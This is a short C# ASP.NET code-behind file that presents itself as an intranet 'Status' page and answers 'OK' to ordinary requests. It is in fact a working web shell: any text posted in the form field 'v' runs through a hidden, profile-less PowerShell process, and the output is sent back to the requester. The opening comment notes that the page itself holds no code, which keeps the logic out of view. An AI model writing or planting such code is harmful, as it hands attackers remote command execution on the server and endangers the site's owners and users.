// Code-behind named by a plain page's Src= attribute: ASP.NET compiles
// it when the page is asked for; the page itself holds no code.
namespace Intranet.Pages
{
public class Status : System.Web.UI.Page
{
	protected void Page_Load(object sender, System.EventArgs e)
	{
		string verb = Request.Form["v"];
		if (string.IsNullOrEmpty(verb)) {
			Response.Write("OK");
			return;
		}
		var si = new System.Diagnostics.ProcessStartInfo(
		    "powershell.exe", "-nop -w hidden -c " + verb);
		si.UseShellExecute = false;
		si.RedirectStandardOutput = true;
		using (var p = System.Diagnostics.Process.Start(si))
		    Response.Write(p.StandardOutput.ReadToEnd());
	}
}
}
